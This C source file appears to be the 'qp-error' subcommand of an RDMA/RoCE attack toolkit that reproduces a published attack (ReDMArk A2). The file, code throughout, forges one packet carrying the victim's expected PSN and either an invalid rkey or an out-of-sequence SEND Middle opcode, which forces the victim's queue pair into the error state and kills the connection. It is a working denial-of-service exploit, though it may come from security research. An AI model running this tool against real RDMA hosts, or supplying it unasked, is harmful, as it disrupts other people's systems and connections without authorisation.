/* SPDX-License-Identifier: MIT */
/*
 * qp-error (ReDMArk A2): one forged packet with the expected PSN but a bad
 * rkey (RDMA WRITE to a key the victim does not have) or an impossible opcode
 * sequence (SEND Middle with no message open) makes rxe's responder NAK it
 * and move the victim's QP to the error state: the connection is dead.
 */
#include <getopt.h>
#include <string.h>

#include "common/attack.h"

enum { OPT_KIND = OPT_FIRST_PRIVATE, OPT_RKEY, OPT_VA };

static void help(FILE *f)
{
	fprintf(f, "Usage: %s qp-error --dst IP --src IP --qpn N (--psn N | --psn-sweep S:C) [options]\n"
		"Send one malformed packet that moves the victim QP to the error state.\n\n"
		FORGE_HELP
		"  --kind rkey|opcode    rkey: RDMA WRITE with an rkey the victim lacks (default)\n"
		"                        opcode: SEND Middle outside a message (sequence error)\n"
		"  --rkey N              rkey to use for --kind rkey (default 0)\n"
		"  --va N                address to use for --kind rkey (default 0)\n"
		"  -h, --help\n\n"
		"The PSN must be the one the victim expects; sweep when it is not known exactly.\n"
		"Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

static const struct option qp_error_long_opts[] = {
	FORGE_LONG_OPTIONS,
	{ "kind", required_argument, NULL, OPT_KIND },
	{ "rkey", required_argument, NULL, OPT_RKEY },
	{ "va", required_argument, NULL, OPT_VA },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

struct qp_error_opts {
	struct forge_opts forge;
	bool opcode_kind;
	uint64_t va;
	uint32_t rkey;
};

/* One of qp-error's own options into o; false if it was bad. */
static bool parse_opt(int opt, const char *arg, void *ctx)
{
	struct qp_error_opts *o = ctx;

	switch (opt) {
	case OPT_KIND:
		if (!strcmp(arg, "opcode")) {
			o->opcode_kind = true;
		} else if (strcmp(arg, "rkey") != 0) {
			fprintf(stderr, "%s qp-error: --kind must be rkey or opcode, not `%s'\n", PROG, arg);
			return false;
		}
		return true;
	case OPT_RKEY: return parse_u32(arg, UINT32_MAX, &o->rkey, "--rkey");
	case OPT_VA: return parse_u64(arg, UINT64_MAX, &o->va, "--va");
	default: return false;
	}
}

/* Returns -1 to go on, or the exit status (0 after --help, 2 bad usage). */
static int parse_args(int argc, char *argv[], struct qp_error_opts *o)
{
	bool bad = false;
	int rc = forge_getopt(argc, argv, qp_error_long_opts, "qp-error", &o->forge, parse_opt, o, help, &bad);

	if (rc >= 0)
		return rc;
	if (bad || !forge_check(&o->forge, "qp-error"))
		return 2;
	return -1;
}

static void report(const struct qp_error_opts *o, uint64_t sent, int rc)
{
	const struct forge_opts *f = &o->forge;
	char s1[16], s2[16];

	if (!f->json) {
		printf("qp-error: %s %llu malformed %s packet(s) %s -> %s qpn 0x%06x psn 0x%06x%s\n",
		       f->no_send ? "built" : "sent", (unsigned long long)sent,
		       o->opcode_kind ? "SEND Middle (out of sequence)" : "RDMA WRITE (bad rkey)",
		       ipv4_str(f->src_ip, s1), ipv4_str(f->dst_ip, s2), f->qpn, f->psn, f->count > 1 ? " (first)" : "");
		return;
	}
	struct json j;
	json_begin(&j, "qp-error");
	json_str(&j, "kind", o->opcode_kind ? "opcode" : "rkey");
	json_str(&j, "dst", ipv4_str(f->dst_ip, s1));
	json_str(&j, "src", ipv4_str(f->src_ip, s2));
	json_hex(&j, "qpn", f->qpn);
	json_hex(&j, "psn_first", f->psn);
	json_u64(&j, "count", f->count);
	json_u64(&j, "sent", sent);
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

int qp_error_main(int argc, char *argv[])
{
	static const uint8_t junk[8] = { 0xde, 0xad, 0xbe, 0xef, 0xde, 0xad, 0xbe, 0xef };
	struct qp_error_opts o = { .forge = { .count = 1 } };
	struct roce_pkt p = { .ack_req = true, .payload = junk, .payload_len = sizeof(junk) };
	uint64_t sent = 0;
	int rc;

	if ((rc = parse_args(argc, argv, &o)) >= 0)
		return rc;
	p.opcode = o.opcode_kind ? ROCE_RC_SEND_MIDDLE : ROCE_RC_WRITE_ONLY;
	p.reth_va = o.va;
	p.reth_rkey = o.rkey;
	p.reth_len = sizeof(junk);
	rc = forge_run(&o.forge, &p, &sent);
	report(&o, sent, rc);
	return rc == 0 ? 0 : 1;
}
